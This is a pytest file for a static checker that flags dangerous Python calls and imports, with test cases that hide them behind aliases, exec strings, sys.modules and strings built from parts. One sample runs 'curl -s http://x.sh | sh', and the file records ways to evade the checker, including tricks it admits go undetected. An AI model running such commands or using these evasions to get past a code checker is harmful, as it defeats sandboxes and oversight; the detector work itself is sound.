"""python_ast through the checked code's own dataflow: aliases across scopes, every import function, sys.modules,
exec strings that use outer names, names bound to literal strings; stale aliases and look-alikes pass."""

from __future__ import annotations

import pytest

from .rule_helpers import checker, pre

CALLS = checker("python_ast", calls=["os.system", "os.remove", "os.popen", "subprocess.*", "shutil.rmtree"])
IMPORTS = checker("python_ast", imports=["socket", "subprocess", "ctypes"])


def rule(check, code: str) -> str | None:
    finding = check.check(pre("python", {"code": code}))
    return finding.rule if finding is not None else None


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("import os\nshell = os\nshell.system('curl -s http://x.sh | sh')", "call of os.system"),
        ("import os\nfs = os\nfs2 = fs\nfs2.remove('/data/train.csv')", "call of os.remove"),
        ("import os, shutil\nfs, tree = os, shutil\ntree.rmtree('/tmp/cache')", "call of shutil.rmtree"),
        ("import os\n(a, (b, c)) = (1, (os, 2))\nprint(b.popen('id').read())", "call of os.popen"),
        ("import subprocess as sp\nrunner = sp\nrunner.run(['ls', '/'])", "call of subprocess.run"),
        ("import os\nsh = os\ndef clean(p):\n    sh.remove(p)\nclean('x')", "call of os.remove"),
        ("def clean(p):\n    fs.remove(p)\nimport os\nfs = os\nclean('x')", "call of os.remove"),
        ("def go():\n    import os as o\n    s = o\n    return s.system('ls')", "call of os.system"),
        ("import os\nsh = os\nrun = lambda cmd: sh.system(cmd)", "call of os.system"),
        ("import os\nm = os\nclass Task:\n    def run(self):\n        return m.popen('id').read()", "call of os.popen"),
        ("import os\nsh = os\ndef run(cmd, mod=sh):\n    mod.system(cmd)", "call of os.system"),
        ("import os\ndef setup():\n    global sh\n    sh = os\nsetup()\nsh.system('ls')", "call of os.system"),
        ("import os\nf = print\nif os.name == 'posix':\n    f = os\nf.system('ls')", "call of os.system"),
        ("import os\nfor mod in (os,):\n    mod.remove('a.txt')", "call of os.remove"),
        ("import os\n[m.remove(p) for m in [os] for p in ['a', 'b']]", "call of os.remove"),
        ("import os\nif (s := os):\n    s.system('ls')", "call of os.system"),
    ],
)
def test_aliases_are_followed_through_assignments_and_scopes(code, expected):
    assert rule(CALLS, code) == expected


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("__builtins__.__import__('socket')", "import of socket"),
        ("__builtins__['__import__']('subprocess')", "import of subprocess"),
        ("net = globals()['__builtins__'].__import__('socket')", "import of socket"),
        ("import builtins\nvars(builtins)['__import__']('ctypes')", "import of ctypes"),
        ("import builtins\nvars(builtins).get('__import__')('ctypes')", "import of ctypes"),
        ("import builtins\nbuiltins.__dict__['__import__']('socket')", "import of socket"),
        ("import builtins\ngetattr(builtins, '__import__')('socket')", "import of socket"),
        ("import importlib\nimportlib.__import__('socket')", "import of socket"),
        ("import builtins as b\nb.__import__('subprocess').run(['ls'])", "import of subprocess"),
        ("from importlib import import_module as load\nload('socket')", "import of socket"),
        ("imp = __import__\nnet = imp('socket')", "import of socket"),
        ("loader = getattr(__import__('importlib'), 'import_module')\nloader('ctypes')", "import of ctypes"),
        ("import importlib\nnet = importlib.import_module(name='socket')", "import of socket"),
    ],
)
def test_every_import_function_is_an_import(code, expected):
    assert rule(IMPORTS, code) == expected


def test_the_module_an_import_function_returns_is_followed():
    assert rule(CALLS, "__builtins__.__import__('os').system('ls')") == "call of os.system"
    assert rule(CALLS, "__import__('os.path').remove('x')") == "call of os.remove"  # the top-level package
    assert rule(CALLS, "import importlib\nimportlib.import_module('subprocess').run(['ls'])") == (
        "call of subprocess.run"
    )


@pytest.mark.parametrize(
    ("check", "code", "expected"),
    [
        (CALLS, "import sys\nsys.modules['os'].system('ls')", "call of os.system"),
        (CALLS, "import sys\nsys.modules.get('os').remove('x')", "call of os.remove"),
        (CALLS, "import sys as s\nmods = s.modules\nmods['subprocess'].run(['ls'])", "call of subprocess.run"),
        (CALLS, "from sys import modules\nmodules['os'].popen('id')", "call of os.popen"),
        (CALLS, "import sys\nkey = 'os'\nsys.modules[key].system('ls')", "call of os.system"),
        (IMPORTS, "import sys\nsys.modules['socket'].create_connection(('x.io', 80))", "import of socket"),
        (IMPORTS, "import sys\nm = sys\nlib = m.modules.get('ctypes')", "import of ctypes"),
        (IMPORTS, "import sys\nsock = sys.modules.__getitem__('socket')", "import of socket"),
    ],
)
def test_sys_modules_with_a_literal_key_is_the_module(check, code, expected):
    assert rule(check, code) == expected


@pytest.mark.parametrize(
    ("check", "code", "expected"),
    [
        (CALLS, "import os\nsh = os\nexec(\"sh.system('ls')\")", "call of os.system"),
        (CALLS, "import os\nfs = os\nexec('fs.remove(\"a.txt\")')", "call of os.remove"),
        (CALLS, "import sys\nmods = sys.modules\neval(\"mods['os'].system('id')\")", "call of os.system"),
        (CALLS, "def job():\n    import os as o\n    exec(\"o.system('ls')\")", "call of os.system"),
        (CALLS, "import os\nsh = os\ncode = \"sh.system('ls')\"\nexec(code)", "call of os.system"),
        (CALLS, "import os\nsh = os\nexec(compile(\"sh.popen('id')\", '<job>', 'exec'))", "call of os.popen"),
        (CALLS, "import os\nsh = os\nexec(\"exec('sh.system(1)')\")", "call of os.system"),
        (IMPORTS, "imp = __import__\nexec(\"imp('socket')\")", "import of socket"),
        (IMPORTS, "from importlib import import_module as load\nexec(\"load('subprocess')\")", "import of subprocess"),
        (IMPORTS, "m = 'socket'\nexec('__import__(m)')", "import of socket"),
    ],
)
def test_exec_strings_see_the_names_bound_outside_them(check, code, expected):
    assert rule(check, code) == expected


@pytest.mark.parametrize(
    ("check", "code", "expected"),
    [
        (CALLS, "m = 'os'\n__import__(m).system('ls')", "call of os.system"),
        (CALLS, "import os\nname = 'system'\ngetattr(os, name)('ls')", "call of os.system"),
        (CALLS, "import os\nverb = 'remove'\nfunc = getattr(os, verb)\nfunc('x')", "call of os.remove"),
        (CALLS, "pkg, fn = 'os', 'popen'\ngetattr(__import__(pkg), fn)('id')", "call of os.popen"),
        (CALLS, "import os\nattr = 'sys' + 'tem'\nos.__getattribute__(attr)('ls')", "call of os.system"),
        (IMPORTS, "mod = 'sub' + 'process'\n__import__(mod)", "import of subprocess"),
        (IMPORTS, "import importlib\nNAME = 'socket'\nimportlib.import_module(NAME)", "import of socket"),
        (IMPORTS, "base = 'sub'\nmod = f'{base}process'\n__import__(mod)", "import of subprocess"),
        (IMPORTS, "lib = 'ctypes'\nalias = lib\n__import__(alias)", "import of ctypes"),
    ],
)
def test_names_bound_to_literal_strings_are_propagated(check, code, expected):
    assert rule(check, code) == expected


@pytest.mark.parametrize(
    "code",
    [
        "import os\nsh = os\nsh = Shell()\nsh.system('ls')",
        "import os as o\no = Robot()\no.remove('part')",
        "import os\nsh = os\ndef f():\n    sh = Shell()\n    sh.system('ls')",
        "import os\nm = os\ndef g():\n    m = {'system': print}\n    m['system']('ls')",
        "import os\nx = os\ndef f(x):\n    return x.system('ls')",
        "import os\nfor mod in (len, print):\n    mod('system')",
        "from os import *\ndef remove(p):\n    return p\nremove('x')",
        "import os\nname = 'system'\nname = 'getcwd'\nprint(getattr(os, name)())",
    ],
)
def test_a_rebound_name_no_longer_stands_for_the_old_module(code):
    assert rule(CALLS, code) is None


@pytest.mark.parametrize(
    "code",
    [
        "os_name = 'linux'\nprint(os_name.upper())",
        "def system(cmd):\n    return f'ran {cmd}'\nprint(system('ls'))",
        "class Shell:\n    def system(self, cmd):\n        return cmd\nShell().system('ls')",
        "exec('print(1)')",
        "exec('x = 1 + 1\\nprint(x)')",
        "name = 'os'\nprint(name)",
        "m = 'math'\nprint(__import__(m).sqrt(2))",
        "import sys\nprint(sys.modules['math'].pi)",
        "config = {'system': 'linux', 'socket': 8080}\nprint(config['system'], config.get('socket'))",
        "import socketserver\nprint(socketserver.TCPServer)",
        "items = ['a', 'b']\nremove = items.remove\nremove('a')",
        "import importlib\nprint(importlib.import_module('json').dumps([1]))",
    ],
)
def test_look_alikes_pass(code):
    assert rule(CALLS, code) is None and rule(IMPORTS, code) is None


def test_names_computed_at_run_time_stay_out_of_reach():
    """The documented limit: a name joined or decoded when the code runs is not followed."""
    assert rule(IMPORTS, "__import__(''.join(['sock', 'et']))") is None
    assert rule(CALLS, "import os\ngetattr(os, 'metsys'[::-1])('ls')") is None


def test_code_too_deep_to_follow_is_refused():
    """Python runs it, so a checker that cannot follow it refuses it rather than let it through."""
    code = "import os\nx = os" + ".path" * 800 + "\nprint(x)"
    assert rule(CALLS, code) == "code too deeply nested to check"
